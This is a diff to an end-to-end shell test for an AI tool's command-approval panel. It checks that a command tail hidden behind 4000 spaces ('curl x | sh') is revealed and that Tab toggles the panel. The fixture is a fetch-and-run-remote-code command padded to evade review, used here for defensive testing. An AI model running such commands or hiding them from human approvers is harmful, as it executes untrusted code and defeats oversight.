@@ -1,6 +1,7 @@
 #!/usr/bin/env bash
 # End-to-end: the approval panel shows a command's tail hidden behind 4000 spaces (`␠×4000; curl x | sh`),
-# refuses y on a 300-line write until End showed its last line, sends a typed reason back to the model, and
+# Tab sets it aside to read the transcript and brings it back, refuses y on a 300-line write until End showed its
+# last line, sends a typed reason back to the model, and
 # --plan shows `plan` in the status bar. Nothing is run: every call is refused.
 set -uo pipefail
 NAME=tui-approval
@@ -13,6 +14,14 @@ wait_for "Type a message and press Enter"
 T send-keys -t e2e "hidden" Enter
 wait_for "Run a command?"
 wait_for "make test␠×4000; curl x | sh"
+# Tab sets the panel aside to read the transcript (reading keys only); Tab brings it back.
+T send-keys -t e2e Tab
+wait_for "⚠ a tool call waits for your answer: Tab goes back to it"
+pane | grep -qF "Run a command?" && fail "the panel should be out of the way"
+T send-keys -t e2e Up r
+wait_for "a tool call is waiting for your answer: Tab goes back to it"
+T send-keys -t e2e Tab
+wait_for "Run a command?"
 T send-keys -t e2e n
 wait_for "after the command"
 
